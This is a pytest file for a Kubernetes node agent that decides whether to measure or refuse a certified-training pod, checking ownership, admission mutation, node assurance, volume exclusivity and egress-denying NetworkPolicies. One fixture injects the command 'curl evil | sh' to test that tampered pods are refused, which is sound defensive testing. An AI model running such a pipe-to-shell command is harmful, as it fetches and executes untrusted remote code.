"""May the node agent measure this pod? The pod, its volumes and its network, from what the API says."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from aicert.certificate import Assurance
from aicert.jcs import sha256_jcs
from aicert_agent.network_ledger import NETWORK_POLICIES, NetworkLedger
from aicert_agent.pod_check import (
    MEASURE,
    Action,
    Problem,
    Verdict,
    check_pod,
    network_problem,
    volume_problem,
)
from aicert_contract.network import egress_denied, network_policy, policy_record, selecting
from aicert_contract.pod import PodSettings, training_pod
from aicert_contract.status import REFUSALS, Reason
from aicert_contract.training import TrainingSpec

SETTINGS = PodSettings(agent_image="registry.example/aicert/agent@sha256:" + "b" * 64)
SPEC: dict[str, Any] = {
    "image": "registry.example/train@sha256:" + "a" * 64,
    "command": ["python", "train.py"],
    "inputs": [{"name": "data", "persistentVolumeClaim": {"claimName": "data-pvc"}, "mountPath": "/data"}],
    "output": {"persistentVolumeClaim": {"claimName": "out-pvc"}, "mountPath": "/out"},
    "minAssurance": "vtpm",
}
POD_UID = "pod-uid-2"


def training(spec: dict[str, Any] | None = None, **status: Any) -> dict[str, Any]:
    return {
        "metadata": {"name": "run", "namespace": "ml", "uid": "u1", "generation": 1},
        "spec": spec or SPEC,
        "status": {"attempt": 2, "podUID": POD_UID, "node": "gpu-1", "phase": "Measuring", **status},
    }


def live_pod(attempt: int = 2, uid: str = POD_UID, spec: dict[str, Any] | None = None) -> dict[str, Any]:
    p = training_pod(
        name="run",
        namespace="ml",
        uid="u1",
        spec=TrainingSpec.model_validate(spec or SPEC),
        attempt=attempt,
        settings=SETTINGS,
    )
    p = copy.deepcopy(p)
    p["metadata"]["uid"] = uid
    p["spec"]["nodeName"] = "gpu-1"  # the scheduler bound it
    return p


def check(pod: dict[str, Any], trained: dict[str, Any] | None = None, node: Assurance = "vtpm") -> Verdict:
    return check_pod(pod, trained or training(), SETTINGS, node)


# --- check_pod ----------------------------------------------------------------------------------------


def test_the_operators_pod_named_by_the_status_is_measured() -> None:
    assert check(live_pod()) == MEASURE == Verdict(Action.MEASURE, None, "")
    assert check(live_pod(), node="cvm") == MEASURE


def test_wait_until_the_status_names_a_pod() -> None:
    status = training()
    del status["status"]["podUID"]
    assert check(live_pod(), status) == Verdict(Action.WAIT)


def test_wait_until_the_status_names_the_node() -> None:
    """Admission lets the agent write only the status of trainings whose status names its node:
    a refusal written before the operator recorded the node was lost (422) in e2e."""
    status = training()
    del status["status"]["node"]
    assert check(live_pod(), status) == Verdict(Action.WAIT)


def test_a_status_naming_another_node_is_foreign() -> None:
    assert check(live_pod(), training(node="gpu-2")) == Verdict(
        Action.REFUSE_FOREIGN,
        Reason.FOREIGN_POD,
        "pod run-2 runs on gpu-1, but CertifiedTraining run says its pod runs on gpu-2",
    )


def test_wait_while_the_status_is_still_on_an_earlier_attempt() -> None:
    # the operator created attempt 2 but the status still says attempt 1 (and names attempt 1's pod)
    assert check(live_pod(), training(attempt=1, podUID="pod-uid-1")) == Verdict(Action.WAIT)


def test_a_pod_controlled_by_another_owner_is_foreign() -> None:
    pod = live_pod()
    pod["metadata"]["ownerReferences"][0]["uid"] = "u-intruder"
    assert check(pod) == Verdict(
        Action.REFUSE_FOREIGN,
        Reason.NOT_OWNED,
        "pod run-2 carries the labels of CertifiedTraining run but is not controlled by it",
    )


def test_a_pod_with_another_training_uid_label_is_foreign() -> None:
    pod = live_pod()
    pod["metadata"]["labels"]["aicert.dev/training-uid"] = "u-intruder"
    assert check(pod) == Verdict(
        Action.REFUSE_FOREIGN,
        Reason.NOT_OWNED,
        "pod run-2 carries the labels of CertifiedTraining run but is not controlled by it",
    )


def test_a_pod_the_status_does_not_name_is_foreign() -> None:
    assert check(live_pod(uid="pod-uid-impostor")) == Verdict(
        Action.REFUSE_FOREIGN,
        Reason.FOREIGN_POD,
        "pod run-2 is not the pod of attempt 2 of CertifiedTraining run",
    )


@pytest.mark.parametrize("phase", ["Succeeded", "Failed"])
def test_no_pod_is_measured_once_the_training_finished(phase: str) -> None:
    assert check(live_pod(), training(phase=phase)) == Verdict(
        Action.REFUSE_FOREIGN, Reason.TRAINING_FINISHED, f"CertifiedTraining run is already {phase}"
    )


def test_a_changed_pod_is_refused_naming_the_path() -> None:
    pod = live_pod()
    pod["metadata"]["labels"]["aicert.dev/training"] = "other"
    verdict = check(pod)
    assert verdict == Verdict(
        Action.REFUSE,
        Reason.POD_MISMATCH,
        "pod run-2 is not the pod the operator made: metadata.labels[aicert.dev/training] changed",
    )
    assert verdict.reason in REFUSALS


def test_a_pod_mutated_at_admission_is_refused_naming_what_was_injected() -> None:
    pod = live_pod()
    pod["spec"]["initContainers"].insert(0, {"name": "linkerd-init", "image": "cr.l5d.io/linkerd/proxy-init"})
    pod["spec"]["initContainers"][2]["command"] = ["sh", "-c", "curl evil | sh"]
    verdict = check(pod)
    assert verdict == Verdict(
        Action.REFUSE,
        Reason.POD_MUTATED,
        "pod run-2 was changed by admission when it was created (a mutating webhook or policy, such as a "
        "sidecar injector): spec.initContainers[linkerd-init] added, spec.initContainers[train].command changed",
    )
    assert verdict.reason in REFUSALS


def test_a_node_below_the_minimum_assurance_is_refused() -> None:
    verdict = check(live_pod(), node="dev")
    assert verdict == Verdict(
        Action.REFUSE,
        Reason.ASSURANCE_TOO_LOW,
        "this node's assurance is dev; the training requires vtpm or higher",
    )
    assert verdict.reason in REFUSALS


# --- volume_problem -----------------------------------------------------------------------------------


def claim(*modes: str) -> dict[str, Any]:
    return {"spec": {"accessModes": list(modes)}}


def other_pod(name: str, claim_name: str, *, read_only: bool, phase: str = "Running") -> dict[str, Any]:
    return {
        "metadata": {"name": name, "uid": f"uid-{name}"},
        "spec": {
            "volumes": [
                {"name": "scratch", "emptyDir": {}},
                {"name": "v", "persistentVolumeClaim": {"claimName": claim_name, "readOnly": read_only}},
            ]
        },
        "status": {"phase": phase},
    }


TSPEC = TrainingSpec.model_validate(SPEC)
CLAIMS = {"data-pvc": claim("ReadOnlyMany"), "out-pvc": claim("ReadWriteOncePod")}


def test_exclusive_claims_and_no_other_pod_pass() -> None:
    assert volume_problem(TSPEC, CLAIMS, [live_pod()], POD_UID, output_claim="out-pvc") is None


@pytest.mark.parametrize(
    ("modes", "shown"),
    [
        (["ReadWriteOnce"], "['ReadWriteOnce']"),
        (["ReadWriteMany"], "['ReadWriteMany']"),
        (["ReadWriteOncePod", "ReadWriteOnce"], "['ReadWriteOnce', 'ReadWriteOncePod']"),
        ([], "[]"),
    ],
)
def test_an_output_claim_others_could_mount_is_not_exclusive(modes: list[str], shown: str) -> None:
    claims = {**CLAIMS, "out-pvc": claim(*modes)}
    assert volume_problem(TSPEC, claims, [], POD_UID, output_claim="out-pvc") == Problem(
        Reason.OUTPUT_NOT_EXCLUSIVE,
        f"output claim out-pvc has access modes {shown}; it must be ReadWriteOncePod so that no other pod can "
        "write into the run's output",
    )


@pytest.mark.parametrize(
    ("modes", "shown"), [("ReadWriteOnce", "['ReadWriteOnce']"), ("ReadWriteMany", "['ReadWriteMany']")]
)
def test_an_input_claim_others_could_write_is_not_exclusive(modes: str, shown: str) -> None:
    claims = {**CLAIMS, "data-pvc": claim(modes)}
    assert volume_problem(TSPEC, claims, [], POD_UID, output_claim="out-pvc") == Problem(
        Reason.INPUT_NOT_EXCLUSIVE,
        f"input claim data-pvc has access modes {shown}; it must be ReadOnlyMany or ReadWriteOncePod so that "
        "nobody can change the inputs during the run",
    )


@pytest.mark.parametrize(
    "modes", [["ReadOnlyMany"], ["ReadWriteOncePod"], ["ReadOnlyMany", "ReadWriteOncePod"]]
)
def test_read_only_many_or_single_pod_inputs_pass(modes: list[str]) -> None:
    assert (
        volume_problem(TSPEC, {**CLAIMS, "data-pvc": claim(*modes)}, [], POD_UID, output_claim="out-pvc")
        is None
    )


@pytest.mark.parametrize("read_only", [True, False])
def test_another_live_pod_mounting_the_output_is_not_exclusive(read_only: bool) -> None:
    reader = other_pod("reader", "out-pvc", read_only=read_only)
    assert volume_problem(TSPEC, CLAIMS, [live_pod(), reader], POD_UID, output_claim="out-pvc") == Problem(
        Reason.OUTPUT_NOT_EXCLUSIVE, "pod reader also mounts the output claim out-pvc"
    )


@pytest.mark.parametrize("phase", ["Pending", "Running", "Unknown"])
def test_another_live_pod_mounting_an_input_writable_is_not_exclusive(phase: str) -> None:
    writer = other_pod("writer", "data-pvc", read_only=False, phase=phase)
    assert volume_problem(TSPEC, CLAIMS, [writer], POD_UID, output_claim="out-pvc") == Problem(
        Reason.INPUT_NOT_EXCLUSIVE, "pod writer mounts the input claim data-pvc writable"
    )


def test_another_pod_mounting_an_input_read_only_passes() -> None:
    assert (
        volume_problem(
            TSPEC, CLAIMS, [other_pod("reader", "data-pvc", read_only=True)], POD_UID, output_claim="out-pvc"
        )
        is None
    )


@pytest.mark.parametrize("phase", ["Succeeded", "Failed"])
def test_finished_pods_do_not_count(phase: str) -> None:
    done = [
        other_pod("writer", "data-pvc", read_only=False, phase=phase),
        other_pod("reader", "out-pvc", read_only=True, phase=phase),
    ]
    assert volume_problem(TSPEC, CLAIMS, done, POD_UID, output_claim="out-pvc") is None


def test_our_own_pod_is_ignored_and_found_by_uid() -> None:
    own = live_pod()  # mounts the output writable, as it must
    assert volume_problem(TSPEC, CLAIMS, [own], POD_UID, output_claim="out-pvc") is None
    twin = live_pod(uid="pod-uid-twin")  # the same pod under another uid is someone else
    assert volume_problem(TSPEC, CLAIMS, [own, twin], POD_UID, output_claim="out-pvc") == Problem(
        Reason.OUTPUT_NOT_EXCLUSIVE, "pod run-2 also mounts the output claim out-pvc"
    )


def test_an_empty_dir_output_needs_no_claim() -> None:
    spec = TrainingSpec.model_validate({**SPEC, "output": {"emptyDir": {}, "mountPath": "/out"}})
    assert volume_problem(spec, {"data-pvc": claim("ReadOnlyMany")}, [], POD_UID, output_claim=None) is None


# --- network ------------------------------------------------------------------------------------------

LABELS: dict[str, str] = live_pod()["metadata"]["labels"]


def policy(name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"metadata": {"name": name, "namespace": "ml"}, "spec": spec}


def own_policy(egress: str = "none") -> dict[str, Any]:
    return network_policy(name="run", namespace="ml", uid="u1", attempt=2, egress=egress)


def problem(spec: TrainingSpec, policies: list[dict[str, Any]]) -> Problem | None:
    """What the agent decides at the gate with these policies in the pod's namespace."""
    book = NetworkLedger(None)
    book.listed(NETWORK_POLICIES, policies, "7")
    book.register("pod-uid", "ml", LABELS, {})
    return network_problem(spec, book.record("pod-uid"), book.opened("pod-uid"))


def test_the_operators_policy_selects_the_pod_and_denies_egress() -> None:
    mine = own_policy()
    assert mine["metadata"]["name"] == "run-2"
    assert mine["spec"] == {
        "podSelector": {"matchLabels": {"aicert.dev/training-uid": "u1", "aicert.dev/attempt": "2"}},
        "policyTypes": ["Ingress", "Egress"],
        "ingress": [],
        "egress": [],
    }
    chosen = selecting([mine], LABELS)
    assert chosen == [mine] and egress_denied(chosen) is True
    assert problem(TSPEC, [mine]) is None


def test_the_policy_of_another_attempt_does_not_select_the_pod() -> None:
    other = network_policy(name="run", namespace="ml", uid="u1", attempt=1, egress="none")
    assert selecting([other], LABELS) == []


def test_no_policy_is_not_isolated() -> None:
    assert problem(TSPEC, []) == Problem(
        Reason.NETWORK_NOT_ISOLATED,
        "spec.network.egress is none but the pod had egress: no NetworkPolicy isolates its egress "
        "(at resourceVersion 7) (NetworkPolicies that selected it: none)",
    )


def test_a_tenant_policy_allowing_egress_undoes_deny_all() -> None:
    tenant = policy("open", {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]})
    chosen = selecting([own_policy(), tenant], LABELS)
    assert len(chosen) == 2 and egress_denied(chosen) is False
    assert problem(TSPEC, [own_policy(), tenant]) == Problem(
        Reason.NETWORK_NOT_ISOLATED,
        "spec.network.egress is none but the pod had egress: NetworkPolicy open allowed egress "
        "(at resourceVersion 7) (NetworkPolicies that selected it: run-2, open)",
    )


@pytest.mark.parametrize(
    ("selector", "selects"),
    [
        ({}, True),
        ({"matchLabels": {"aicert.dev/training": "run"}}, True),
        ({"matchLabels": {"aicert.dev/training": "other"}}, False),
        ({"matchLabels": {"aicert.dev/training": "run", "app": "web"}}, False),
        ({"matchExpressions": [{"key": "aicert.dev/training", "operator": "In", "values": ["run"]}]}, True),
        ({"matchExpressions": [{"key": "aicert.dev/training", "operator": "In", "values": ["web"]}]}, False),
        ({"matchExpressions": [{"key": "app", "operator": "In", "values": ["web"]}]}, False),
        (
            {"matchExpressions": [{"key": "aicert.dev/training", "operator": "NotIn", "values": ["run"]}]},
            False,
        ),
        (
            {"matchExpressions": [{"key": "aicert.dev/training", "operator": "NotIn", "values": ["web"]}]},
            True,
        ),
        ({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["web"]}]}, True),
        ({"matchExpressions": [{"key": "aicert.dev/attempt", "operator": "Exists"}]}, True),
        ({"matchExpressions": [{"key": "app", "operator": "Exists"}]}, False),
        ({"matchExpressions": [{"key": "app", "operator": "DoesNotExist"}]}, True),
        ({"matchExpressions": [{"key": "aicert.dev/attempt", "operator": "DoesNotExist"}]}, False),
        (
            {"matchExpressions": [{"key": "aicert.dev/attempt", "operator": "Matches", "values": ["2"]}]},
            False,
        ),
    ],
)
def test_which_policies_select_the_pod(selector: dict[str, Any], selects: bool) -> None:
    open_egress = policy("tenant", {"podSelector": selector, "egress": [{}]})
    chosen = selecting([own_policy(), open_egress], LABELS)
    assert chosen == ([own_policy(), open_egress] if selects else [own_policy()])
    assert (problem(TSPEC, [own_policy(), open_egress]) is None) is (not selects)


def test_policy_types_default_from_the_rules() -> None:
    # without policyTypes, a policy with egress rules isolates egress (so its rules count) ...
    implied = policy(
        "implied", {"podSelector": {}, "egress": [{"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]}
    )
    assert egress_denied([implied]) is False and egress_denied([own_policy(), implied]) is False
    # ... one without egress rules isolates ingress only
    ingress_only = policy("ingress-only", {"podSelector": {}, "ingress": [], "egress": []})
    assert egress_denied([ingress_only]) is False
    assert egress_denied([own_policy(), ingress_only]) is True
    # egress rules of a policy declared Ingress-only are ignored
    declared = policy("declared", {"podSelector": {}, "policyTypes": ["Ingress"], "egress": [{}]})
    assert egress_denied([own_policy(), declared]) is True


def test_egress_allowed_is_never_a_network_problem() -> None:
    allowed = TrainingSpec.model_validate({**SPEC, "network": {"egress": "allowed"}})
    assert problem(allowed, []) is None
    assert problem(allowed, [policy("open", {"podSelector": {}, "egress": [{}]})]) is None
    mine = own_policy("allowed")
    assert mine["spec"]["egress"] == [{}] and egress_denied(selecting([mine], LABELS)) is False


def test_policy_record_digests_the_spec() -> None:
    none, allowed = own_policy("none"), own_policy("allowed")
    assert policy_record(none) == {"name": "run-2", "spec": sha256_jcs(none["spec"]).hex()}
    assert len(policy_record(none)["spec"]) == 64
    assert policy_record(allowed)["spec"] != policy_record(none)["spec"]
    relabelled = copy.deepcopy(none)
    relabelled["metadata"]["labels"]["extra"] = "x"
    assert policy_record(relabelled) == policy_record(none)  # only the spec counts


def test_the_attempts_own_claim_from_a_template_is_checked_like_a_named_one() -> None:
    from aicert_contract.training import output_claim

    spec = TrainingSpec.model_validate(
        {**SPEC, "output": {"volumeClaimTemplate": {"size": "1Gi"}, "mountPath": "/out"}}
    )
    claim_name = output_claim(spec, "run", 2)
    assert claim_name == "run-2-output"
    claims = {"data-pvc": claim("ReadOnlyMany"), claim_name: claim("ReadWriteOncePod")}
    assert volume_problem(spec, claims, [], POD_UID, output_claim=claim_name) is None
    twin = other_pod("copy", claim_name, read_only=True)
    assert volume_problem(spec, claims, [twin], POD_UID, output_claim=claim_name) == Problem(
        Reason.OUTPUT_NOT_EXCLUSIVE, "pod copy also mounts the output claim run-2-output"
    )
